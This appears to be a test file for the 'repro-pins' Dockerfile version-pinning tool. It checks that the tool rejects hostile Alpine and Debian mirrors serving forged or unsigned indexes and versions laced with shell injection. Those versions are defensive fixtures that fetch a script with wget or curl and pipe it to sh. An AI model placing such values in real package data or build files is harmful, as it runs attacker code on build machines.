import { gzipSync } from 'node:zlib';
import { makeRepo, readRepo, runRepoPins } from '../support/cli-harness.js';
import { apkIndexArchive, makeApkTestKey, makeArchiveTestKey, pocketFiles, startMirror, testKeyEnv } from '../support/package-indexes.js';

/**
 * `repro-pins pin` against hostile package mirrors on loopback (issue 10): a version that is a
 * shell command, an unsigned or forged index, a Packages file that is not the one InRelease
 * signed. Each is an error naming the mirror's URL and the package; the Dockerfile is not touched.
 */
let keys: Record<string, string>;
beforeAll(async () => {
  keys = await testKeyEnv();
});

const INJECTION = '8.9.1-r0 && wget -qO- http://x/y | sh && true';
const ALPINE_FILE = 'FROM alpine:3.20\nRUN apk add --no-cache curl\n';
const DEBIAN_FILE = 'FROM debian:bookworm\nRUN apt-get update && apt-get install -y curl\n';

async function pinAgainst(files: Record<string, string | Buffer>, dockerfile: string, manager: 'apk' | 'apt') {
  const mirror = await startMirror(files);
  try {
    const config = manager === 'apk' ? `alpine: { mirror: "${mirror.url}/alpine" }\n` : `debian: { mirror: "${mirror.url}/debian", securityMirror: "${mirror.url}/security" }\n`;
    const dir = await makeRepo({ '.github/repro-pins.yml': config, 'Dockerfile': dockerfile });
    const run = await runRepoPins(['pin', dir, '--only', manager], keys);
    return { run, after: (await readRepo(dir))['Dockerfile'], url: mirror.url };
  } finally {
    await mirror.close();
  }
}

const APKINDEX = '/alpine/v3.20/main/x86_64/APKINDEX.tar.gz';

describe('repro-pins pin against hostile package mirrors', () => {
  test('an APKINDEX version that is a shell command is an error naming the index and package, never written', async () => {
    const { run, after, url } = await pinAgainst({ [APKINDEX]: apkIndexArchive(`P:curl\nV:${INJECTION}\nA:x86_64\n`) }, ALPINE_FILE, 'apk');
    expect(run.code).toBe(1);
    expect(run.stderr).toContain(`error: Dockerfile:2: curl: ${url}${APKINDEX} gives package "curl" the version "${INJECTION}", which is not an apk version`);
    expect(after).toBe(ALPINE_FILE);
  });

  test('an unsigned APKINDEX, or one signed by a key the operator does not trust, is refused', async () => {
    const unsigned = await pinAgainst({ [APKINDEX]: apkIndexArchive('P:curl\nV:8.9.1-r0\n', 'x', { unsigned: true }) }, ALPINE_FILE, 'apk');
    expect(unsigned.run.code).toBe(1);
    expect(unsigned.run.stderr).toContain(`${unsigned.url}${APKINDEX} is not signed (no .SIGN.RSA.* entry before the index)`);
    expect(unsigned.after).toBe(ALPINE_FILE);
    const forged = await pinAgainst({ [APKINDEX]: apkIndexArchive('P:curl\nV:8.9.1-r0\n', 'x', { key: makeApkTestKey('mallory.rsa.pub') }) }, ALPINE_FILE, 'apk');
    expect(forged.run.stderr).toContain(`${forged.url}${APKINDEX} is signed by "mallory.rsa.pub", which is not a trusted Alpine key`);
    expect(forged.after).toBe(ALPINE_FILE);
  });

  test('a Debian Packages version that is a shell command is an error naming the index and package', async () => {
    const packages = gzipSync(`Package: curl\nVersion: 7.88.1-10 && curl http://x/y | sh\nArchitecture: amd64\n`);
    const files = await pocketFiles('/debian', 'bookworm', { 'main/binary-amd64/Packages.gz': packages });
    const { run, after, url } = await pinAgainst(files, DEBIAN_FILE, 'apt');
    expect(run.code).toBe(1);
    expect(run.stderr).toContain(`error: Dockerfile:2: curl: ${url}/debian/dists/bookworm/main/binary-amd64/Packages.gz gives package "curl" the version "7.88.1-10 && curl http://x/y | sh"`);
    expect(after).toBe(DEBIAN_FILE);
  });

  test('a Packages file other than the one InRelease signed, or an InRelease signed by a stranger, is refused', async () => {
    const signedPackages = gzipSync('Package: curl\nVersion: 7.88.1-10+deb12u15\nArchitecture: amd64\n');
    const files = await pocketFiles('/debian', 'bookworm', { 'main/binary-amd64/Packages.gz': signedPackages });
    files['/debian/dists/bookworm/main/binary-amd64/Packages.gz'] = gzipSync('Package: curl\nVersion: 6.6.6-1\nArchitecture: amd64\n');
    const swapped = await pinAgainst(files, DEBIAN_FILE, 'apt');
    expect(swapped.run.code).toBe(1);
    expect(swapped.run.stderr).toMatch(/Packages\.gz (is \d+ bytes|has SHA256 [0-9a-f]+), but .*\/debian\/dists\/bookworm\/InRelease lists .*: not the signed index/);
    expect(swapped.after).toBe(DEBIAN_FILE);
    const stranger = await pocketFiles('/debian', 'bookworm', { 'main/binary-amd64/Packages.gz': signedPackages }, { key: await makeArchiveTestKey() });
    const unknown = await pinAgainst(stranger, DEBIAN_FILE, 'apt');
    expect(unknown.run.stderr).toContain(`${unknown.url}/debian/dists/bookworm/InRelease is not signed by a key of the trusted keyring`);
    expect(unknown.after).toBe(DEBIAN_FILE);
  });
});
